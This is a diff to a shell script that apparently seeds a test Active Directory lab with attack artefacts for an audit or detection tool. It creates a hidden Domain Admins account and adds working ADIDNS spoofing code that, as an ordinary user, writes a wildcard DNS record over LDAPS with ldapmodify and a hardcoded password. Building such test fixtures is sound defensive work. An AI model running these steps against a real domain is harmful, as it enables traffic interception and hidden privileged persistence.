@@ -241,6 +241,18 @@ adduser hidden_admin "userAccountControl: 512"
 addmember "Domain Admins" hidden_admin
 printf 'dn: CN=hidden_admin,CN=Users,%s\nchangetype: modify\nreplace: primaryGroupID\nprimaryGroupID: 512\n' "$B" \
   | try "primaryGroupID 512 (Domain Admins) on hidden_admin"
+# ADIDNS (AD-DNS-003): the ordinary user asrep_user adds a wildcard record
+# to the domain zone over LDAPS, as any authenticated user may (the ADIDNS
+# spoofing attack); it owns the record
+printf 'Passw0rd!123' > "$W/asrep_user.pw"; chmod 600 "$W/asrep_user.pw"
+REC=$(/usr/bin/python3 -c 'import base64, struct, sys
+ip = bytes(int(x) for x in sys.argv[1].split("."))
+print(base64.b64encode(struct.pack("<HHBBHI", 4, 1, 5, 0xf0, 0, 1) + struct.pack(">I", 180) + struct.pack("<II", 0, 0) + ip).decode())' "${IP%.*}.66")
+if out=$(printf 'dn: DC=*,DC=%s,CN=MicrosoftDNS,DC=DomainDnsZones,%s\nchangetype: add\nobjectClass: dnsNode\ndnsRecord:: %s\n' "$DNSDOM" "$B" "$REC" \
+    | ldapmodify -x -H "$AD_LDAPS_URI" -D "asrep_user@$DNSDOM" -y "$W/asrep_user.pw" 2>&1); then
+  log "OK    over LDAP as asrep_user (an ordinary user): wildcard record *.$DNSDOM -> ${IP%.*}.66"
+else log "REFUSED wildcard record as asrep_user: $(echo "$out" | tr '\n' ' ' | cut -c1-200)"; fi
+rm -f "$W/asrep_user.pw"
 # changes in the incident window on objects older than it, dated only by
 # their replication metadata (AD-ACL-012, AD-PRV-022): an ACE for Domain
 # Admins on AdminSDHolder (a trusted holder: no ACL finding), and one more
